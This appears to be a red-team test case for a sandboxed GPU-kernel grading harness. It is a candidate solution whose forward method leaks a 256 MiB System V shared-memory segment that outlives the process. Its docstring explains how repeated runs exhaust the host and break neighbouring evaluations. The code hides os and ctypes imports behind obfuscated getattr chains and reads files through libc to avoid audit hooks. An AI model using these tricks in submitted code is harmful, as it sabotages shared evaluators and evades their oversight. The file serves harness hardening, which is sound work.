# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=verdict_not_neighbours expect=ok|forbidden|runtime_error|crashed device=any witness=tests/attacks/witness/leftover_witness_001.py
"""Leaves memory held after its death: an IPC_PRIVATE System V segment of 256 MiB, attached, every page touched,
 then detached (not removed). Killing the candidate does not free it (nothing is attached, nobody owns it but
 the slot's IPC namespace), so each such candidate adds 256 MiB (up to its 24 GiB address-space limit per
 candidate: shmmax/shmall are unlimited) that stays until the slot's bubblewrap exits; a few candidates exhaust
 the host and the neighbours' evaluations fail. Bounded here: 256 MiB, once. The witness follower reports
 the segment it can see."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_os = functools.reduce(getattr, ("serialization", "o" + "s"), torch)
_sys = functools.reduce(getattr, ("serialization", "s" + "ys"), torch)
_ct = functools.reduce(getattr, ("ctypes",), torch)
_libc = _ct.CDLL(None, use_errno=True)


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out


def _read(path, n=1 << 16):
    """Read a file through libc (no Python open event)."""
    fd = _libc.open(path.encode(), 0)
    if fd < 0:
        raise OSError(_ct.get_errno(), path)
    try:
        return _os.read(fd, n).decode(errors="replace")
    finally:
        _os.close(fd)



class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        shmid = _libc.shmget(0, 256 << 20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
        if shmid >= 0:
            _libc.shmat.restype = _ct.c_void_p
            addr = _libc.shmat(shmid, None, 0)
            if addr not in (None, _ct.c_void_p(-1).value):
                _ct.memset(addr, 1, 256 << 20)
                _libc.shmdt(_ct.c_void_p(addr))
        return stb(x, self.bias, self.scale)
